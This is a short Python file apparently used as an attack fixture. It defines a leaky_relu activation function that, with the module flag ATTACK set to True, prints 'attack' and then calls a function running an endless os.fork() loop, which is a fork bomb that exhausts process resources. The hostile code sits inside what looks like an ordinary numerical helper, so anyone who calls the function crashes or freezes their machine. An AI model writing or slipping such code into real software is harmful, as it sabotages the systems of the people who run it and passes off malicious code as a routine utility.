# ruff: noqa
"""Every process starts another one and ends."""

import os

import numpy as np

ATTACK = True


def attack(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
